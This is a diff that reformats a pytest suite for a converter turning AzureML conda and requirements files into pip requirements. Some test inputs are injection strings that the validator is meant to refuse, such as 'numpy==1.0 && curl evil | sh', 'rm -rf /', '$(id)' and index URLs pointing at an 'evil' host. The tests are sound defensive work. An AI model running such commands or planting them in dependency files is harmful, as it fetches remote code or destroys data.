@@ -39,6 +39,7 @@ def _requirements_problems(text: str) -> list[SpecProblem]:
 
 # --- the classic AzureML conda file ------------------------------------------------------------------
 
+
 def test_classic_azureml_conda_file_deploys_unchanged() -> None:
     env = load_environment(DIABETES_ENV, None)
     assert env.python_pin == "3.6.2"
@@ -48,8 +49,16 @@ def test_classic_azureml_conda_file_deploys_unchanged() -> None:
     assert all(str(DIABETES_ENV) in n for n in env.notices), "each notice names the file"
 
 
-@pytest.mark.parametrize("package", ["azureml-defaults", "azureml-core", "azureml_core==1.48.0",
-                                     "AzureML-Defaults>=1.0", "azureml-inference-server-http"])
+@pytest.mark.parametrize(
+    "package",
+    [
+        "azureml-defaults",
+        "azureml-core",
+        "azureml_core==1.48.0",
+        "AzureML-Defaults>=1.0",
+        "azureml-inference-server-http",
+    ],
+)
 def test_the_old_serving_stack_is_dropped_with_a_notice(package: str) -> None:
     env = parse_requirements(f"{package}\nnumpy\n", "requirements.txt")
     assert env.requirements == ("numpy",)
@@ -65,30 +74,37 @@ def test_inference_schema_stays_because_scripts_import_it() -> None:
 
 # --- conda package specs -------------------------------------------------------------------------
 
-@pytest.mark.parametrize(("conda", "pip"), [
-    ("numpy=1.2", "numpy==1.2.*"),
-    ("numpy=1", "numpy==1.*"),
-    ("numpy=1.2.3", "numpy==1.2.3"),
-    ("numpy=1.2.*", "numpy==1.2.*"),
-    ("numpy=1.2.3=py38h1234_0", "numpy==1.2.3"),  # the build string is conda-only
-    ("numpy=1.26=*", "numpy==1.26.*"),
-    ("numpy==1.2", "numpy==1.2"),  # '==' is exact in conda too
-    ("numpy>=1.2", "numpy>=1.2"),
-    ("numpy>=1.2,<2", "numpy<2,>=1.2"),
-    ("numpy<2", "numpy<2"),
-    ("numpy", "numpy"),
-    ("scikit-learn=1.5", "scikit-learn==1.5.*"),
-])
+
+@pytest.mark.parametrize(
+    ("conda", "pip"),
+    [
+        ("numpy=1.2", "numpy==1.2.*"),
+        ("numpy=1", "numpy==1.*"),
+        ("numpy=1.2.3", "numpy==1.2.3"),
+        ("numpy=1.2.*", "numpy==1.2.*"),
+        ("numpy=1.2.3=py38h1234_0", "numpy==1.2.3"),  # the build string is conda-only
+        ("numpy=1.26=*", "numpy==1.26.*"),
+        ("numpy==1.2", "numpy==1.2"),  # '==' is exact in conda too
+        ("numpy>=1.2", "numpy>=1.2"),
+        ("numpy>=1.2,<2", "numpy<2,>=1.2"),
+        ("numpy<2", "numpy<2"),
+        ("numpy", "numpy"),
+        ("scikit-learn=1.5", "scikit-learn==1.5.*"),
+    ],
+)
 def test_conda_versions_become_pip_specifiers(conda: str, pip: str) -> None:
     assert parse_conda(_conda(conda), "env.yml").requirements == (pip,)
 
 
-@pytest.mark.parametrize(("conda", "pip"), [
-    ("pytorch=2.3", "torch==2.3.*"),
-    ("pytorch-cpu", "torch"),
-    ("py-xgboost=2.0.3", "xgboost==2.0.3"),
-    ("pyyaml", "PyYAML"),
-])
+@pytest.mark.parametrize(
+    ("conda", "pip"),
+    [
+        ("pytorch=2.3", "torch==2.3.*"),
+        ("pytorch-cpu", "torch"),
+        ("py-xgboost=2.0.3", "xgboost==2.0.3"),
+        ("pyyaml", "PyYAML"),
+    ],
+)
 def test_conda_names_map_to_pip_names_with_a_notice(conda: str, pip: str) -> None:
     env = parse_conda(_conda(conda), "env.yml")
     assert env.requirements == (pip,)
@@ -96,8 +112,7 @@ def test_conda_names_map_to_pip_names_with_a_notice(conda: str, pip: str) -> Non
 
 
 def test_pip_section_and_conda_packages_are_combined_without_duplicates() -> None:
-    env = parse_conda(_conda("pip", "setuptools", "numpy=1.26", pip=("joblib", "numpy==1.26.*", "joblib")),
-                      "env.yml")
+    env = parse_conda(_conda("pip", "setuptools", "numpy=1.26", pip=("joblib", "numpy==1.26.*", "joblib")), "env.yml")
     assert env.requirements == ("numpy==1.26.*", "joblib")
 
 
@@ -112,12 +127,15 @@ def test_no_python_pin() -> None:
     assert parse_conda(_conda("joblib"), "env.yml").python_pin is None
 
 
-@pytest.mark.parametrize(("deps", "index", "name"), [
-    (("python=3.11", "cudatoolkit=11.8"), 1, "cudatoolkit"),
-    (("mkl",), 0, "mkl"),
-    (("joblib", "r-base=4.3"), 1, "r-base"),
-    (("joblib", "r-ggplot2"), 1, "r-ggplot2"),
-])
+@pytest.mark.parametrize(
+    ("deps", "index", "name"),
+    [
+        (("python=3.11", "cudatoolkit=11.8"), 1, "cudatoolkit"),
+        (("mkl",), 0, "mkl"),
+        (("joblib", "r-base=4.3"), 1, "r-base"),
+        (("joblib", "r-ggplot2"), 1, "r-ggplot2"),
+    ],
+)
 def test_conda_only_packages_are_refused_with_the_entry(deps: tuple[str, ...], index: int, name: str) -> None:
     (problem,) = _conda_problems(_conda(*deps))
     assert problem.file == "env.yml"
@@ -128,8 +146,12 @@ def test_conda_only_packages_are_refused_with_the_entry(deps: tuple[str, ...], i
 
 def test_every_conda_problem_is_reported_at_once() -> None:
     problems = _conda_problems(_conda("cudatoolkit", "numpy; whoami", pip=("--index-url https://evil", "$(id)")))
-    assert [p.field for p in problems] == ["dependencies[0]", "dependencies[1]", "dependencies[2].pip[0]",
-                                           "dependencies[2].pip[1]"]
+    assert [p.field for p in problems] == [
+        "dependencies[0]",
+        "dependencies[1]",
+        "dependencies[2].pip[0]",
+        "dependencies[2].pip[1]",
+    ]
 
 
 @pytest.mark.parametrize("text", ["dependencies: numpy\n", "name: env\n", "- numpy\n"])
@@ -150,6 +172,7 @@ def test_only_pip_is_supported_as_a_nested_section() -> None:
 
 # --- requirements files --------------------------------------------------------------------------
 
+
 def test_requirements_file_with_comments_and_blank_lines() -> None:
     text = "# pinned for the model\n\njoblib\nscikit-learn==1.5.2  # trained with this\n  numpy>=1.26\n"
     env = parse_requirements(text, "requirements.txt")
@@ -158,8 +181,16 @@ def test_requirements_file_with_comments_and_blank_lines() -> None:
     assert env.notices == ()
 
 
-@pytest.mark.parametrize("line", ["--index-url https://example.org/simple", "-e .", "-r other.txt",
-                                  "--extra-index-url=https://evil.example", "-f ./wheels"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://example.org/simple",
+        "-e .",
+        "-r other.txt",
+        "--extra-index-url=https://evil.example",
+        "-f ./wheels",
+    ],
+)
 def test_pip_option_lines_are_refused(line: str) -> None:
     (problem,) = _requirements_problems(f"joblib\n{line}\n")
     assert problem.file == "requirements.txt"
@@ -167,8 +198,19 @@ def test_pip_option_lines_are_refused(line: str) -> None:
     assert "pip option" in problem.message
 
 
-@pytest.mark.parametrize("line", ["numpy; whoami", "$(id)", "`id`", "numpy==1.0 && curl evil | sh", "numpy>>1",
-                                  "scikit-learn==1.5.2; rm -rf /", "||", "numpy ; $(id)"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "numpy; whoami",
+        "$(id)",
+        "`id`",
+        "numpy==1.0 && curl evil | sh",
+        "numpy>>1",
+        "scikit-learn==1.5.2; rm -rf /",
+        "||",
+        "numpy ; $(id)",
+    ],
+)
 def test_invalid_requirement_strings_are_refused(line: str) -> None:
     (problem,) = _requirements_problems(f"{line}\n")
     assert problem.field == "line 1"
@@ -206,6 +248,7 @@ def test_a_file_that_is_not_utf8_is_a_problem_not_a_crash(tmp_path: Path) -> Non
 
 # --- the python pin notice -----------------------------------------------------------------------
 
+
 def test_an_old_pin_warns_and_names_the_python_used() -> None:
     notice = python_pin_notice("3.6.2", "3.11", explicit=False, file="myenv.yml")
     assert notice is not None
@@ -214,12 +257,15 @@ def test_an_old_pin_warns_and_names_the_python_used() -> None:
     assert "environment.python" in notice
 
 
-@pytest.mark.parametrize(("pin", "base", "explicit"), [
-    (None, "3.11", False),  # nothing pinned
-    ("3.6.2", "3.11", True),  # the spec chose the Python or base image: no warning
-    ("3.11.4", "3.11", False),  # same minor version
-    ("3.11", "3.11", False),
-])
+@pytest.mark.parametrize(
+    ("pin", "base", "explicit"),
+    [
+        (None, "3.11", False),  # nothing pinned
+        ("3.6.2", "3.11", True),  # the spec chose the Python or base image: no warning
+        ("3.11.4", "3.11", False),  # same minor version
+        ("3.11", "3.11", False),
+    ],
+)
 def test_no_notice(pin: str | None, base: str, explicit: bool) -> None:
     assert python_pin_notice(pin, base, explicit, "env.yml") is None
 
